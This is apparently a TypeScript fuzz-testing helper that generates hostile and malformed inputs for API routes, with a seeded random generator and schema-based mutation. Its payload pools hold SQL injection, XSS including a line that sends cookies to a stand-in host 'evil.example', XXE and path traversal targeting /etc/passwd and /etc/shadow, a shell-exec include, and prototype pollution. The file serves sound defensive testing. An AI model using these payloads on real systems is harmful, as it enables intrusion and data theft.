// Hostile input for the fuzz suites: a seeded PRNG (every run prints its seed; FUZZ_SEED=<n> replays one), pools of
// the strings and values that break servers (SQL/script injection, path traversal, unicode edge cases, huge and
// negative numbers, wrong types, deep nesting), and a schema-aware generator that builds almost-valid objects from a
// route's JSON schema and then breaks one thing in them.

/** mulberry32: small, fast, and the same sequence for the same seed on every platform */
export function makeRng(seed: number): Rng {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (lo, hi) => lo + Math.floor(next() * (hi - lo + 1)),
    pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!,
    chance: (p) => next() < p,
  };
}

export interface Rng {
  next(): number;
  /** inclusive bounds */
  int(lo: number, hi: number): number;
  pick<T>(xs: readonly T[]): T;
  chance(p: number): boolean;
}

export const fuzzSeed = (): number => {
  const fromEnv = Number(process.env.FUZZ_SEED);
  return Number.isInteger(fromEnv) && fromEnv > 0 ? fromEnv : 12345;
};

export const SQL_INJECTION = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "1' UNION SELECT password_hash, tenant_id FROM users --",
  "admin'--",
  '" OR ""="',
  "1; SELECT pg_sleep(10)",
  "$$; DELETE FROM tenants; $$",
  "' AND 1=(SELECT COUNT(*) FROM tenants) --",
  "%' OR tenant_id <> '",
  '\\x27 OR 1=1',
];

export const SCRIPT_INJECTION = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  "<svg/onload=fetch('//evil.example/'+document.cookie)>",
  '{{constructor.constructor("return process")().exit()}}',
  '${process.exit(1)}',
  '<!--#exec cmd="/bin/sh"-->',
  "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
];

export const PATH_TRAVERSAL = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/shadow',
  '%2e%2e%2f%2e%2e%2f',
  'file:///etc/passwd',
  '../../var/recordings/x.wav',
  'a/../../b',
];

export const UNICODE = [
  '😀🎉🏳️‍🌈👨‍👩‍👧‍👦',
  '\u202Eevil\u202C', // right-to-left override
  'مرحبا بالعالم', // RTL script
  'a\u0000b', // NUL
  '\u0000',
  '\uD800', // lone high surrogate
  '\uDFFFx', // lone low surrogate
  'x\uD83D', // a surrogate pair cut in half
  '\u200B\u200C\u200D\uFEFF', // zero-width
  'Z̴̡̛͈͎̈́a̶̢̛͖l̸̰̈g̷̣̈́o̴͍̍', // combining marks
  '\r\n\r\nX-Injected: 1',
  '\u0007\u001b[31m',
  '市民热线'.repeat(300),
  '\uFFFF\uFFFE',
];

export const HUGE_NUMBERS = [
  1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER - 2, 2 ** 31, -(2 ** 31) - 1, 2 ** 63, -1, -0, 0, 1.5, -0.0001, 1e-320,
];

export const NUMBER_STRINGS = ['99999999999999999999999999', '-1', 'NaN', 'Infinity', '-Infinity', '0x7fffffff', '1e400', '00012', ' 1 ', '1,5'];

export const DATE_STRINGS = ['2024-02-30', '9999-99-99', '0000-00-00', '2026-13-01', '-2026-01-01', '20260101', '2026-01-01T25:61:00Z', 'yesterday'];

export const NOT_UUIDS = ['00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', 'not-a-uuid', '1', '-1', '', ' ', 'null', 'undefined'];

export function deepNesting(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

export const PROTOTYPE_POLLUTION = ['{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"role":"admin"}}}'];

/** any hostile scalar (or a wrong-typed value) */
export function hostileValue(rng: Rng, ids: readonly string[]): unknown {
  switch (rng.int(0, 11)) {
    case 0:
      return rng.pick(SQL_INJECTION);
    case 1:
      return rng.pick(SCRIPT_INJECTION);
    case 2:
      return rng.pick(PATH_TRAVERSAL);
    case 3:
      return rng.pick(UNICODE);
    case 4:
      return rng.pick(HUGE_NUMBERS);
    case 5:
      return rng.pick(NUMBER_STRINGS);
    case 6:
      return rng.pick([null, true, false, [], {}, [1, 'a', null], { nested: { deeper: [{}] } }]);
    case 7:
      return ids.length ? rng.pick(ids) : rng.pick(NOT_UUIDS);
    case 8:
      return rng.pick(NOT_UUIDS);
    case 9:
      return rng.pick(DATE_STRINGS);
    case 10:
      return 'x'.repeat(rng.pick([256, 1025, 10_000, 100_000]));
    default:
      return Array.from({ length: rng.pick([100, 5000]) }, (_, i) => i);
  }
}

export function hostileString(rng: Rng, ids: readonly string[]): string {
  const v = hostileValue(rng, ids);
  return typeof v === 'string' ? v : JSON.stringify(v) ?? String(v);
}

/** the subset of JSON schema the routes use */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  additionalProperties?: boolean | JsonSchema;
}

/** A plausible valid value for a schema (ids come from `ids`, so some requests reach the handler with real rows). */
export function plausible(schema: JsonSchema | undefined, rng: Rng, ids: readonly string[], depth = 0): unknown {
  if (!schema || depth > 6) return 'x';
  if (schema.const !== undefined) return schema.const;
  if (schema.enum?.length) return rng.pick(schema.enum);
  const alt = schema.anyOf ?? schema.oneOf;
  if (alt?.length) return plausible(rng.pick(alt), rng, ids, depth + 1);
  if (schema.allOf?.length) return plausible(schema.allOf[0], rng, ids, depth + 1);
  const type = Array.isArray(schema.type) ? rng.pick(schema.type.filter((t) => t !== 'null')) ?? 'null' : schema.type;
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, s] of Object.entries(schema.properties ?? {})) {
        if (schema.required?.includes(k) || rng.chance(0.5)) out[k] = plausible(s, rng, ids, depth + 1);
      }
      return out;
    }
    case 'array':
      return Array.from({ length: Math.max(schema.minItems ?? 0, rng.int(0, 3)) }, () => plausible(schema.items, rng, ids, depth + 1));
    case 'integer':
    case 'number': {
      const lo = schema.minimum ?? 0;
      const hi = schema.maximum ?? lo + 100;
      return rng.int(Math.ceil(lo), Math.floor(Math.min(hi, lo + 1000)));
    }
    case 'boolean':
      return rng.chance(0.5);
    case 'null':
      return null;
    default: {
      if (schema.format === 'uuid') return ids.length && rng.chance(0.8) ? rng.pick(ids) : '3f8c2a9e-1b7d-4c55-9e21-0a6b5d4c3e2f';
      if (schema.format === 'date') return '2026-05-01';
      if (schema.format === 'date-time') return '2026-05-01T08:00:00Z';
      if (schema.pattern) return rng.pick(['12345', '1001', '13800138000', 'abc', '2026-05-01', '08:30']);
      const len = Math.max(schema.minLength ?? 1, 1);
      const s = rng.pick(['测试', 'fuzz', '12345', '13800138000', '1001']);
      return s.padEnd(len, 'x').slice(0, schema.maxLength ?? 64);
    }
  }
}

/** Break one thing in a plausible object: a hostile value, a wrong type, a missing required or an extra field. */
export function mutateObject(schema: JsonSchema | undefined, rng: Rng, ids: readonly string[]): unknown {
  const base = plausible(schema, rng, ids);
  if (typeof base !== 'object' || base === null || Array.isArray(base)) return rng.chance(0.5) ? base : hostileValue(rng, ids);
  const obj = base as Record<string, unknown>;
  const keys = Object.keys(schema?.properties ?? {});
  const move = rng.int(0, 5);
  if (move === 0 && schema?.required?.length) delete obj[rng.pick(schema.required)];
  else if (move === 1) obj[rng.pick(['role', 'tenantId', 'tenant_id', 'isAdmin', '__proto__', 'id', 'x'.repeat(300)])] = hostileValue(rng, ids);
  else if (move === 2 && keys.length) {
    // a nested hostile value inside an otherwise valid body
    const k = rng.pick(keys);
    const sub = schema?.properties?.[k];
    obj[k] = sub?.type === 'object' ? mutateObject(sub, rng, ids) : sub?.type === 'array' ? [hostileValue(rng, ids)] : hostileValue(rng, ids);
  } else if (keys.length) obj[rng.pick(keys)] = hostileValue(rng, ids);
  else obj[rng.pick(['a', 'tenantId', 'id'])] = hostileValue(rng, ids);
  return obj;
}

/** encodeURIComponent that survives lone surrogates: they go out as the invalid UTF-8 a hostile client would send */
export function pctEncode(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return encodeURIComponent(s.replace(/[\uD800-\uDFFF]/g, '')) + '%ED%A0%80%C0%AF';
  }
}
